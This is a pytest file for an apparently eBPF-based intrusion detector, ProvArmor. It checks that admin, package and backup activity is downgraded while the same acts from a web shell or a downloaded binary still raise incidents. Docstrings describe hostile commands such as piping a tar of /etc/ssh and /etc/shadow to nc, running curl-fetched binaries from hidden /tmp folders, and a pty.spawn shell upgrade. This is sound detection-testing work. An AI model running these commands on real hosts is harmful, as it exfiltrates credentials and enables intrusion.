"""Lineage context on real recordings made on this machine with the live eBPF agent
(tests/data/lineage/README.md): the same acts are quiet in a package transaction, an admin's
sudo or terminal session or a virtual environment (a hidden one under /tmp too), and still
raise incidents under a web server's shell (on a pseudo-terminal of its own too) or from a
downloaded binary or module;
ProvArmor's own processes never do."""

from __future__ import annotations

from pathlib import Path

import msgspec
import pytest

from provarmor.detection.context import ContextDetector
from provarmor.detection.sigma.loader import bundled_rules
from provarmor.model.actions import Action
from provarmor.model.alert import Alert
from provarmor.model.event import Event
from provarmor.pipeline.analysis import AnalysisResult
from provarmor.pipeline.assembly import AnalysisPlan, build_analysis, compile_rules
from provarmor.sources.base import HostContext, IngestReport
from provarmor.sources.ndjson import read_ndjson

DATA = Path(__file__).resolve().parents[2] / "data" / "lineage"
ADMIN_WORK = DATA / "admin-work.ndjson.gz"
ATTACKS = DATA / "attack-acts.ndjson.gz"
VENV_ACTS = DATA / "venv-acts.ndjson.gz"
HIDDEN_PROGRAM = "Hidden program executed from a temporary directory"
TEMP_LIBRARY = "Shared library mapped from a temporary directory"
LOCAL_SERVER = DATA / "local-server-session.ndjson.gz"


@pytest.fixture(scope="module")
def ruleset():
    return compile_rules([bundled_rules()])


def _analyse(path: Path, ruleset, *, context: bool = True) -> tuple[AnalysisResult, list]:
    analysis = build_analysis(AnalysisPlan(ruleset=ruleset, context=context))
    report = IngestReport(source=str(path))
    result = analysis.collect(read_ndjson(path, report=report, host=HostContext(id="")))
    assert not report.rejected
    return result, analysis.detectors


def _by_title(alerts: list[Alert], title: str) -> list[Alert]:
    found = [alert for alert in alerts if alert.rule_title == title]
    assert found, f"no {title!r} alert in the recording"
    return found


def test_admin_and_developer_work_raises_no_incident(ruleset) -> None:
    result, _ = _analyse(ADMIN_WORK, ruleset)
    assert result.incidents() == []


def test_without_context_the_same_work_raises_three_false_incidents(ruleset) -> None:
    # the fourth, `usermod -aG adm` alone, is one medium act (filed under two
    # tactics): no incident in any context (tests/provarmor/investigation/test_incidents.py)
    result, _ = _analyse(ADMIN_WORK, ruleset, context=False)
    titles = sorted(incident.title for incident in result.incidents())
    expected = [
        "Password hash file read by an unexpected program",
        "SSH private key read by a non-SSH program",
        "Shared library mapped from a temporary directory",
    ]
    assert len(titles) == len(expected)
    assert all(title.startswith(rule) for title, rule in zip(titles, expected, strict=True))


def test_each_act_is_lowered_by_the_context_it_came_from(ruleset) -> None:
    result, _ = _analyse(ADMIN_WORK, ruleset)
    alerts = result.alerts
    for alert in _by_title(alerts, "Password hash file read by an unexpected program"):
        assert (alert.context, alert.context_effect) == ("package", "lowered")
        assert (alert.original_level, alert.level) == ("high", "low")
        assert alert.context_reason.startswith("package transaction: apt-get -> ")
    useradd = _by_title(alerts, "Local account created")
    assert any("redis-tools.postinst -> adduser -> useradd" in a.context_reason for a in useradd)
    for title in (
        "SSH private key read by a non-SSH program",
        "Account added to a privileged group",
    ):
        for alert in _by_title(alerts, title):
            assert alert.context == "admin"
            assert "(sudo run by user 1001)" in alert.context_reason
    (library,) = _by_title(alerts, "Shared library mapped from a temporary directory")
    assert library.context == "build"
    assert "venv/bin/python was written by python3 -m venv" in library.context_reason


def _temp_alerts(alerts: list[Alert], folder: str) -> list[Alert]:
    """The hidden-program and temporary-library alerts about files under ``folder``."""
    titles = (HIDDEN_PROGRAM, TEMP_LIBRARY)
    return [
        alert
        for alert in alerts
        if alert.rule_title in titles and any(f"/{folder}/" in path for path in alert.file_paths)
    ]


def test_a_hidden_virtual_environment_its_own_lineage_made_under_tmp_stays_low(ruleset) -> None:
    """/tmp/pvvenv-rec/.venv made by ``python3 -m venv`` and filled by pip, its python run
    by the same shell; a package pip put into /tmp/pvvenv-rec/.deps loaded by the system
    python: a build/test lineage, never above low, in no incident."""
    result, _ = _analyse(VENV_ACTS, ruleset)
    made_here = _temp_alerts(result.alerts, ".venv") + _temp_alerts(result.alerts, ".deps")
    titles = {alert.rule_title for alert in made_here}
    assert titles == {HIDDEN_PROGRAM, TEMP_LIBRARY}
    for alert in made_here:
        assert (alert.context, alert.context_effect) in {
            ("build", "lowered"),
            ("package", "lowered"),
        }
        assert alert.level == "low" and alert.original_level in ("high", "medium")
    (venv_python,) = [a for a in made_here if "/tmp/pvvenv-rec/.venv/bin/python" in a.file_paths]
    assert "/tmp/pvvenv-rec/.venv/bin/python was written by python3 -m venv" in (
        venv_python.context_reason
    )
    (deps,) = _temp_alerts(result.alerts, ".deps")
    assert "was written by pip [package transaction" in deps.context_reason
    in_incidents = {alert_id for incident in result.incidents() for alert_id in incident.alert_ids}
    assert not in_incidents & {alert.id for alert in made_here}


def test_the_same_python_and_module_downloaded_into_tmp_still_raise(ruleset) -> None:
    """The same binary and compiled module fetched with curl into a hidden folder and run,
    from a web shell (.web) and from a plain root shell (.dl): kept at their level, each in
    an incident; the recording's only incidents."""
    result, _ = _analyse(VENV_ACTS, ruleset)
    incidents = set()
    for folder in (".web", ".dl"):
        downloaded = _temp_alerts(result.alerts, folder)
        assert {alert.rule_title for alert in downloaded} == {HIDDEN_PROGRAM, TEMP_LIBRARY}
        for alert in downloaded:
            expected = "high" if alert.rule_title == HIDDEN_PROGRAM else "medium"
            assert (alert.context, alert.context_effect) == ("downloaded", "kept")
            assert alert.level == expected and alert.original_level == ""
            assert "was written by curl after it received data from 127.0.0.1:" in (
                alert.context_reason
            )
            incidents.add(_incident_of(result, alert).id)
    assert len(incidents) == len(result.incidents()) == 4


def _incident_of(result: AnalysisResult, alert: Alert):
    found = [i for i in result.incidents() if alert.id in i.alert_ids]
    assert found, f"{alert.rule_title} ({alert.context}) is in no incident"
    return found[0]


def test_the_same_acts_under_a_web_shell_keep_their_level_and_raise_incidents(ruleset) -> None:
    result, _ = _analyse(ATTACKS, ruleset)
    for title, level in (
        ("Password hash file read by an unexpected program", "high"),
        ("SSH private key read by a non-SSH program", "high"),
        ("Sensitive locations packed into an archive", "medium"),
        ("Account added to a privileged group", "medium"),
    ):
        shell = [a for a in _by_title(result.alerts, title) if a.context == "server-child"]
        assert shell, title
        for alert in shell:
            assert (alert.context_effect, alert.level, alert.original_level) == ("kept", level, "")
            assert alert.context_reason.startswith("network-facing server's child: python3 ")
            assert "webshell.py -> sh -c " in alert.context_reason
            incident = _incident_of(result, alert)
            assert any(
                note.startswith(f"{title}: kept {level} (raising context): network-facing")
                for note in incident.context
            )
            assert "Context kept " in incident.summary


def test_a_downloaded_binary_reading_the_shadow_file_raises_an_incident(ruleset) -> None:
    result, _ = _analyse(ATTACKS, ruleset)
    reads = _by_title(result.alerts, "Password hash file read by an unexpected program")
    downloaded = [a for a in reads if a.context == "downloaded"]
    assert len(downloaded) == 2  # one run by the web shell, one from a plain root shell
    for alert in downloaded:
        assert alert.level == "high" and alert.context_effect == "kept"
        assert "was written by curl after it received data from 127.0.0.1:" in alert.context_reason
        assert _incident_of(result, alert).severity in ("high", "critical")


def test_provarmors_own_processes_never_become_incidents(ruleset) -> None:
    report = IngestReport(source=str(ATTACKS))
    own = {
        event.process.entity_id
        for event in read_ndjson(ATTACKS, report=report, host=HostContext(id=""))
        if event.process.provarmor
    }
    assert own, "the recording holds processes of ProvArmor's cgroup"
    result, detectors = _analyse(ATTACKS, ruleset)
    (context,) = detectors
    assert isinstance(context, ContextDetector)
    assert context.stats.own_dropped.total() >= 4  # shadow read, useradd, usermod, userdel
    assert not [a for a in result.alerts if own & set(a.process_entity_ids)]
    assert not [i for i in result.incidents() if own & {n.id for n in i.nodes}]
    without, _ = _analyse(ATTACKS, ruleset, context=False)
    assert [a for a in without.alerts if own & set(a.process_entity_ids)]


TERMINAL_ACTS = DATA / "terminal-acts.ndjson.gz"
ACTS = (
    "Account added to a privileged group",
    "Sensitive locations packed into an archive",
    "SSH authorized_keys written",
    "Sudoers policy written",
)


@pytest.fixture(scope="module")
def terminal_parts() -> dict[str, list[Event]]:
    """The recording's events by who did the acts: ``web`` (the web shell's process tree),
    ``daemon`` (the detached daemon's) and ``session`` (the rest: root's ssh session, the
    recording script and its curl clients)."""
    report = IngestReport(source=str(TERMINAL_ACTS))
    events = list(read_ndjson(TERMINAL_ACTS, report=report, host=HostContext(id="")))
    roots = {"web": "webshell.py", "daemon": "setsid"}
    trees: dict[str, set[str]] = {part: set() for part in roots}
    for event in events:
        process = event.process
        parent = process.parent.entity_id if process.parent is not None else ""
        for part, program in roots.items():
            forked = event.event.action is Action.FORK and parent in trees[part]
            if forked or any(arg.endswith(program) for arg in process.args[:2]):
                trees[part].add(process.entity_id)
    parts: dict[str, list[Event]] = {part: [] for part in (*roots, "session")}
    for event in events:
        part = next((p for p, tree in trees.items() if event.process.entity_id in tree), "")
        parts[part or "session"].append(event)
    return parts


def _collect(events: list[Event], ruleset) -> AnalysisResult:
    return build_analysis(AnalysisPlan(ruleset=ruleset, context=True)).collect(iter(events))


def test_root_administration_on_an_ssh_terminal_raises_no_incident(ruleset, terminal_parts) -> None:
    result = _collect(terminal_parts["session"], ruleset)
    assert result.incidents() == []
    for title in ACTS:
        for alert in _by_title(result.alerts, title):
            assert (alert.context, alert.level) == ("admin", "low")
            assert alert.context_reason.endswith("(terminal pts0 of a sshd session)")


def test_without_the_terminal_the_same_session_raises_incidents(ruleset, terminal_parts) -> None:
    """What the sensor recorded before it reported the controlling terminal."""
    untyped = [
        msgspec.structs.replace(e, process=msgspec.structs.replace(e.process, tty=""))
        for e in terminal_parts["session"]
    ]
    result = _collect(untyped, ruleset)
    assert result.incidents()
    assert not [a for a in result.alerts if a.context == "admin"]


def test_a_web_shell_on_a_pty_of_its_own_keeps_its_level_and_raises_incidents(
    ruleset, terminal_parts
) -> None:
    """``script -qec`` and python's ``pty.spawn`` give the web shell a real terminal (the
    events say pts0), outside any login session: nothing is lowered."""
    web = terminal_parts["web"]
    spawners = ("script", "python3")
    on_terminal = {e.process.args[0] for e in web if e.process.tty == "pts0"}
    assert {"tty", "usermod", "tar"} <= on_terminal
    result = _collect(web, ruleset)
    assert not [a for a in result.alerts if a.context == "admin"]
    for title in ACTS:
        alerts = _by_title(result.alerts, title)
        assert len(alerts) == len(spawners)
        for alert in alerts:
            assert (alert.context, alert.context_effect) == ("server-child", "kept")
            assert alert.level in ("medium", "high") and not alert.original_level
            _incident_of(result, alert)
    pty = _by_title(result.alerts, "Python pty.spawn used to upgrade a shell")
    assert all(alert.context == "server-child" for alert in pty)


def test_a_daemon_that_gives_itself_a_pty_is_no_session_and_raises_incidents(
    ruleset, terminal_parts
) -> None:
    """A detached daemon (``setsid``, no server above it: what a cron job or a compromised
    service could leave) with python's ``pty.spawn``: a terminal, but no login program
    above it, so nothing is lowered."""
    daemon = terminal_parts["daemon"]
    assert {"tty", "usermod", "tar"} <= {e.process.args[0] for e in daemon if e.process.tty}
    result = _collect(daemon, ruleset)
    assert not [a for a in result.alerts if a.context == "admin"]
    for title in ACTS:
        (alert,) = _by_title(result.alerts, title)
        assert alert.context_effect == "" and not alert.original_level
        _incident_of(result, alert)


def test_a_root_session_that_used_its_own_local_server_raises_no_incident(ruleset) -> None:
    """Corpus chunk-15, task ``pkg:memcached`` typed by root on an ssh terminal: install,
    start memcached on 127.0.0.1, talk to it from the session's shell, purge (its postrm
    removes the memcache user: deluser reads the shadow file). The shell's exchange with its
    own server made it 'remote input' and kept the purge's acts high: one critical incident."""
    result, _ = _analyse(LOCAL_SERVER, ruleset)
    assert result.incidents() == []
    reads = _by_title(result.alerts, "Password hash file read by an unexpected program")
    assert any("memcached.postrm -> deluser" in a.context_reason for a in reads)
    for alert in reads:
        assert (alert.context, alert.context_effect, alert.level) == ("package", "lowered", "low")
    assert not [a for a in result.alerts if a.context == "remote-input"]


AUTOMATION_ACCOUNTS = DATA / "automation-accounts.ndjson.gz"


def test_account_changes_scripted_without_a_terminal_raise_no_incident(ruleset) -> None:
    """Corpus chunk-11 (learning window): the recipe's root shell, with no terminal and no
    login session (as cron or configuration management runs one), adds, locks, unlocks and
    removes users and groups with the account tools; ``userdel -r`` deletes the home's shell
    history itself. Without the account-change context: one critical incident ("Shell
    history file deleted (+26 signals)")."""
    result, _ = _analyse(AUTOMATION_ACCOUNTS, ruleset)
    assert result.incidents() == []
    scripted = [a for a in result.alerts if a.context != "package"]
    titles = {alert.rule_title for alert in scripted}
    assert {"Shell history file deleted", "Account added to a privileged group"} <= titles
    for alert in scripted:
        assert (alert.context, alert.context_effect) == ("account", "lowered")
        assert alert.level in ("informational", "low")
    (history, *_) = _by_title(scripted, "Shell history file deleted")
    assert history.original_level == "high"
    assert history.context_reason == (
        "account change: userdel (userdel changes the account database)"
    )
    packaged = [a for a in result.alerts if a.context == "package"]
    assert any("postfix.postrm -> userdel" in a.context_reason for a in packaged)


BACKUP_ACTS = DATA / "backup-acts.ndjson.gz"
PIPED_ACTS = DATA / "piped-acts.ndjson.gz"
KEY_READ = "SSH private key read by a non-SSH program"


def test_a_backup_from_a_shell_with_no_known_context_raises_no_incident(ruleset) -> None:
    """The issue's ``tar czf backup.tgz /etc/ssh /etc/passwd ...`` typed as root in a shell
    with no terminal and no login (a script, a remote-execution channel), a zip of /etc/ssh
    and an rsync copy of it: backups to this host's disk, lowered with their reason."""
    result, _ = _analyse(BACKUP_ACTS, ruleset)
    assert result.incidents() == []
    reads = _by_title(result.alerts, KEY_READ)
    programs = {alert.context_reason.split("(")[-1].split(" ")[0] for alert in reads}
    assert programs == {"tar", "zip", "rsync"}
    shadow = _by_title(result.alerts, "Password hash file read by an unexpected program")
    for alert in [*reads, *shadow]:
        assert (alert.context, alert.context_effect, alert.level) == ("backup", "lowered", "low")
    assert any(a.context_reason.endswith("(tar writes backup.tgz)") for a in reads)


def test_without_the_backup_context_the_same_tar_raises_an_incident(ruleset, monkeypatch) -> None:
    monkeypatch.setattr("provarmor.graph.lineage.archive_written", lambda *_: "")
    result, _ = _analyse(BACKUP_ACTS, ruleset)
    assert result.incidents()


def test_the_same_tar_to_standard_output_piped_to_the_network_still_raises(ruleset) -> None:
    """``tar czf - /etc/ssh /etc/shadow | nc 127.0.0.1 PORT`` from the same kind of shell:
    not a backup (its archive goes wherever the pipe sends it); kept, in an incident."""
    result, _ = _analyse(PIPED_ACTS, ruleset)
    reads = _by_title(result.alerts, KEY_READ)
    for read in reads:
        assert (read.context, read.level, read.original_level) == ("none", "high", "")
        assert _incident_of(result, read).severity in ("high", "critical")
